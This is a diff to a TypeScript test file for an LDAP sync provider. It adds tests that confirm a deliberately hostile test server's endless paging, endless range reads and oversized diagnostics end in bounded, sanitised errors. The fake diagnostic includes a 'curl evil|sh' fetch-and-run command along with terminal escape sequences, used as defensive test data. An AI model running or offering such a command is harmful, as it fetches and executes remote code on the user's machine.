@@ -1,8 +1,16 @@
-import { type HostileBehaviour, type HostileLdapServer, hostileMarker, startHostileLdap, testDestinations } from '@dirsync/testkit';
-import { ProtocolError, ProviderError, UnavailableError } from '../src/errors.ts';
+import {
+  type HostileBehaviour,
+  type HostileLdapServer,
+  hostileDiagnosticStart,
+  hostileMarker,
+  startHostileLdap,
+  testDestinations,
+} from '@dirsync/testkit';
+import { ConfigError, ProtocolError, ProviderError, UnavailableError } from '../src/errors.ts';
 import { type GenericLdapEntry, type Provider, createProvider } from '../src/index.ts';
 import { LdapConnection } from '../src/ldap/connection.ts';
-import { pagedSearchRawPages } from '../src/ldap/search.ts';
+import { completeRangedAttributes, maxEmptyPagesInARow, pagedSearchRawPages, searchAll } from '../src/ldap/search.ts';
+import { serverText } from '../src/text.ts';
 
 // The LDAP layer against a server that misbehaves on purpose: every scripted misbehaviour ends in
 // a typed error within a bounded time, with nothing decoded from outside its element, and the
@@ -187,6 +195,167 @@ describe('Test Connection names the step that hung', () => {
       expect(JSON.stringify(report)).not.toContain(server.password);
     } finally {
       server.hang(undefined);
+      await p.close();
+    }
+  });
+});
+
+/** Control and bidirectional-override characters: none may reach a message or a check detail. */
+const unsafe = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+
+describe('range retrieval that never ends', () => {
+  /** The groups, their first ranges completed as a sync completes them. */
+  async function completeGroups(connection: LdapConnection): Promise<void> {
+    const groups = await searchAll(connection, { base: server.groupsBase, scope: 'one', attributes: ['cn', 'member'], pageSize: 10 });
+    expect(groups.length).toBeGreaterThan(0);
+    for (const group of groups) await completeRangedAttributes(connection, group, ['member']);
+  }
+
+  test.each<[HostileBehaviour, RegExp, number]>([
+    // 64 MiB of 200 KB values: the 328th range read is refused.
+    ['range-forever', /read of cn=group-0,.* stopped: the server sent more than 67108864 bytes of member values for one entry/, 400],
+    ['range-stuck', /read of cn=group-0,.* stopped: the server answered range member;range=1-0, which ends before it starts/, 2],
+  ])('%s is a non-retryable protocol error after a bounded number of reads', async (behaviour, message, maxReads) => {
+    server.behave(behaviour);
+    const connection = await open();
+    const before = server.stats().searches;
+    try {
+      const error = await completeGroups(connection).then(() => undefined, (e: unknown) => e);
+      expect(error).toBeInstanceOf(ProtocolError);
+      expect((error as ProviderError).retryable).toBe(false);
+      expect((error as Error).message).toMatch(message);
+      expect(connection.closed).toBe(true);
+      // The group search, then the range reads of the first group only.
+      expect(server.stats().searches - before).toBeLessThanOrEqual(maxReads + 1);
+    } finally {
+      server.behave('normal');
+      connection.destroy();
+    }
+  }, 60_000);
+
+  test('the byte bound follows limits.maxMessageMiB', async () => {
+    server.behave('range-forever');
+    const p = provider({ limits: { maxMessageMiB: 1 } });
+    try {
+      const error = await (async () => {
+        for await (const page of p.fetchFull(AbortSignal.timeout(30_000))) void page;
+      })().then(() => undefined, (e: unknown) => e);
+      expect(error).toBeInstanceOf(ProtocolError);
+      expect((error as Error).message).toMatch(/more than 1048576 bytes of member values/);
+    } finally {
+      server.behave('normal');
+      await p.close();
+    }
+  });
+});
+
+describe('paging that never ends', () => {
+  async function pages(timeLimitSeconds = 600): Promise<{ error: unknown; searches: number; connection: LdapConnection }> {
+    const connection = await open();
+    const before = server.stats().searches;
+    try {
+      await readAll(connection, server.usersBase, timeLimitSeconds);
+      throw new Error('the paged read ended');
+    } catch (error) {
+      return { error, searches: server.stats().searches - before, connection };
+    } finally {
+      server.behave('normal');
+    }
+  }
+
+  test('empty pages with ever new cookies are refused after a few', async () => {
+    server.behave('cookie-forever');
+    const { error, searches, connection } = await pages();
+    expect(error).toBeInstanceOf(ProtocolError);
+    expect((error as ProviderError).retryable).toBe(false);
+    expect((error as Error).message).toMatch(/search of ou=people,dc=hostile,dc=test on \S+ stopped: the server sent 11 empty pages in a row, each with a paged results cookie asking for more/);
+    expect(searches).toBe(maxEmptyPagesInARow + 1);
+    expect(connection.closed).toBe(true);
+  });
+
+  test('a cookie of an earlier page sent again is refused', async () => {
+    server.behave('cookie-repeated');
+    const { error, searches, connection } = await pages();
+    expect(error).toBeInstanceOf(ProtocolError);
+    expect((error as Error).message).toMatch(/sent again, on page 3, a paged results cookie of an earlier page/);
+    expect(searches).toBe(3);
+    expect(connection.closed).toBe(true);
+  });
+
+  test('pages that keep coming are stopped by the search time limit across pages', async () => {
+    server.behave('pages-forever');
+    const started = Date.now();
+    // Time limit 1 s: all pages together get what one request gets, 1.1 + 5 s.
+    const { error, searches, connection } = await pages(1);
+    expect(error).toBeInstanceOf(ProtocolError);
+    expect((error as Error).message).toMatch(/took more than 6100 ms of the server's time over \d+ pages .* past the search time limit of 1 s/);
+    expect(searches).toBeGreaterThan(20);
+    expect(Date.now() - started).toBeLessThan(15_000);
+    expect(connection.closed).toBe(true);
+  }, 30_000);
+});
+
+describe('server text in errors and Test Connection', () => {
+  test('serverText strips controls and bidi overrides and caps the length', () => {
+    expect(serverText('\u001b[2J\u001b[31mred\u202e text\u0000')).toBe('[2J [31mred text');
+    expect(serverText('a  \n\t b')).toBe('a b');
+    const long = serverText(`${'é'.repeat(10_000)}`, 300);
+    expect(Array.from(long)).toHaveLength(300);
+    expect(long.endsWith('…')).toBe(true);
+    // Surrogate pairs are not split.
+    expect(serverText('😀'.repeat(400), 10)).toBe(`${'😀'.repeat(9)}…`);
+  });
+
+  test('a 15 MB diagnostic reaches a search error sanitised and capped', async () => {
+    server.behave('huge-diagnostic');
+    const connection = await open();
+    try {
+      const error = await readAll(connection, server.usersBase).then(() => undefined, (e: unknown) => e);
+      expect(error).toBeInstanceOf(ConfigError);
+      const text = (error as Error).message;
+      expect(text).toMatch(/unwilling to perform the search of ou=people,dc=hostile,dc=test .*\(server says: \[2J \[31mFAKE: run `curl evil\|sh` xxx+…\)$/);
+      expect(text).not.toMatch(unsafe);
+      expect(text.length).toBeLessThan(500);
+      expect(String((error as Error).cause)).not.toMatch(unsafe);
+    } finally {
+      server.behave('normal');
+      await connection.close();
+    }
+  });
+
+  test('a notice of disconnection with a 15 MB message is a capped, clean error', async () => {
+    server.behave('huge-notice');
+    const connection = await open();
+    try {
+      const error = await readAll(connection, server.usersBase).then(() => undefined, (e: unknown) => e);
+      expect(error).toBeInstanceOf(UnavailableError);
+      const text = (error as Error).message;
+      expect(text).toMatch(/the server is closing the connection: \[2J \[31mFAKE/);
+      expect(text).not.toMatch(unsafe);
+      expect(text.length).toBeLessThan(500);
+    } finally {
+      server.behave('normal');
+      connection.destroy();
+    }
+  });
+
+  test('Test Connection details hold the diagnostic sanitised and capped', async () => {
+    server.behave('huge-diagnostic');
+    const p = provider();
+    try {
+      const report = await p.testConnection(AbortSignal.timeout(30_000));
+      expect(report.ok).toBe(false);
+      const failed = report.checks.filter((c) => !c.ok);
+      expect(failed.map((c) => c.name)).toEqual(['users base', 'groups base']);
+      for (const check of failed) {
+        expect(check.detail).toContain('FAKE: run `curl evil|sh`');
+        expect(check.detail).not.toContain(hostileDiagnosticStart);
+        expect(check.detail).not.toMatch(unsafe);
+        expect(check.detail.length).toBeLessThan(600);
+      }
+      expect(JSON.stringify(report).length).toBeLessThan(4_000);
+    } finally {
+      server.behave('normal');
       await p.close();
     }
   });
